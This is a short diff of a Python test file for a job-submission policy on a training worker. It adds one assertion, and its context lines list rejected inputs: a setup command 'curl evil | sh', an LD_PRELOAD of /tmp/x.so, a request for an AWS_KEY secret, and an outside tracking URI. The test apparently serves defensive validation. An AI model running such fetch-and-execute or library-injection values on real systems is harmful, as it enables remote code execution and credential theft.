@@ -90,6 +90,7 @@ def test_the_open_form_fixes_what_runs_on_the_worker_besides_the_loop():
                         open_form["form_policy"]["allow"])
     assert policy.enforce(changed(policy, name="mine", train={"epochs": 3, "lr": 0.1, "params": {"hidden": 8}},
                                   compute={"num_nodes": 2}, limits={"max_runtime_minutes": 30}))
+    assert policy.enforce(changed(policy, train={"loop": "tests.loops.plain:no_step_given"}, data=None))  # no data
     for field, value in (("setup", "curl evil | sh"), ("envs", {"LD_PRELOAD": "/tmp/x.so"}), ("secrets", ["AWS_KEY"]),
                          ("workdir", "/"), ("storage", {"checkpoints": "/tmp/elsewhere"}),
                          ("tracking", {"uri": "http://elsewhere:5000"})):
